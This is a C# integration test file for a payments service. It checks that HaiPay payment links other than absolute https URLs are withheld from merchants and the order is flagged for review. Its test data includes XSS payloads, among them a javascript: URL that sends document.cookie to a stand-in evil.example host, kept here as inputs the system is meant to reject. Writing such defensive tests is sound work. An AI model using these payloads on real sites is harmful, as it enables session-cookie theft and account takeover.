using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Payments.Core.Orders;
using Payments.IntegrationTests.Fixtures;

namespace Payments.IntegrationTests.HaiPay;

/// <summary>
/// HaiPay's <c>payUrl</c> is a page the customer is sent to: only an absolute https link (http only where
/// <c>Links:AllowHttp</c> is on, as for the local sandbox) reaches the merchant; anything else is no usable link and
/// the order goes to a person (<c>pay-url-unknown</c>), signed reply or not.
/// </summary>
public sealed class PayUrlTests(SharedAzurite azurite) : IClassFixture<SharedAzurite>
{
    public static TheoryData<string, bool> UnusableLinks() =>
        new()
        {
            { "javascript:alert(document.domain)", true },
            { "JavaScript:fetch('//evil.example/'+document.cookie)", true },
            { "data:text/html,<script>alert(1)</script>", true },
            { "/haipay/subscribe/4025071719404220010", true },
            { "//evil.example/pay", true },
            { "https:evil.example/pay", true },
            { "http://127.0.0.1:9/pay", false },
        };

    [Theory]
    [MemberData(nameof(UnusableLinks))]
    public async Task SubscriptionApply_UnsignedReplyWithAnUnusablePayUrl_NoLinkReachesTheMerchantAndPayUrlUnknown(
        string payUrl,
        bool allowHttp
    )
    {
        await using var system = await StartAsync(allowHttp);
        await system.SetHaiPayFaultsAsync(new { payUrl, notifications = false });
        var id = $"sub-link-{Math.Abs(payUrl.GetHashCode(StringComparison.Ordinal))}";

        var response = await SubscriptionFlow.CreateAsync(system, SubscriptionFlow.Request(id));

        await AssertFlaggedWithoutALinkAsync(system, response, id);
    }

    [Theory]
    [MemberData(nameof(UnusableLinks))]
    public async Task CollectionApply_SignedReplyWithAnUnusablePayUrl_NoLinkReachesTheMerchantAndPayUrlUnknown(
        string payUrl,
        bool allowHttp
    )
    {
        await using var system = await StartAsync(allowHttp);
        await system.SetHaiPayFaultsAsync(new { payUrl, notifications = false });
        var id = $"hpy-link-{Math.Abs(payUrl.GetHashCode(StringComparison.Ordinal))}";

        var response = await CollectionFlow.CreateAsync(system, CollectionFlow.Request(id));

        await AssertFlaggedWithoutALinkAsync(system, response, id);
    }

    /// <summary>Created, but for a person (<c>pay-url-unknown</c>): no link answered, none stored.</summary>
    private static async Task AssertFlaggedWithoutALinkAsync(
        PaymentsSystem system,
        HttpResponseMessage response,
        string id
    )
    {
        var created = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        Assert.Equal(
            ("NeedsReview", "pay-url-unknown", JsonValueKind.Null),
            (
                created.GetProperty("status").GetString(),
                created.GetProperty("reviewReason").GetString(),
                created.GetProperty("payUrl").ValueKind
            )
        );
        await AssertNoLinkStoredAsync(system, id);
    }

    [Fact]
    public async Task CollectionApply_HttpsPayUrl_ReachesTheMerchantAsSent()
    {
        const string payUrl = "https://tn-uat-cashier.haipay.top/pay/usd/redirect/?orderNo=cmgjhy4v6v0a";
        await using var system = await StartAsync(allowHttp: false);
        await system.SetHaiPayFaultsAsync(new { payUrl, notifications = false });

        var response = await CollectionFlow.CreateAsync(system, CollectionFlow.Request("hpy-link-https"));

        var created = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(
            (HttpStatusCode.Created, "Pending", payUrl),
            (response.StatusCode, created.GetProperty("status").GetString(), created.GetProperty("payUrl").GetString())
        );
    }

    private Task<PaymentsSystem> StartAsync(bool allowHttp) =>
        PaymentsSystem.StartAsync(
            azurite,
            new Dictionary<string, string?> { ["Links:AllowHttp"] = allowHttp ? "true" : "false" }
        );

    private static async Task AssertNoLinkStoredAsync(PaymentsSystem system, string id)
    {
        using var client = system.Server.CreateMerchantClient();
        var order = await client.GetFromJsonAsync<JsonElement>($"/api/orders/{Uri.EscapeDataString(id)}");
        Assert.Equal(
            (JsonValueKind.Null, ReviewReason.PayUrlUnknown.Name()),
            (order.GetProperty("redirectUrl").ValueKind, order.GetProperty("reviewReason").GetString())
        );
    }
}
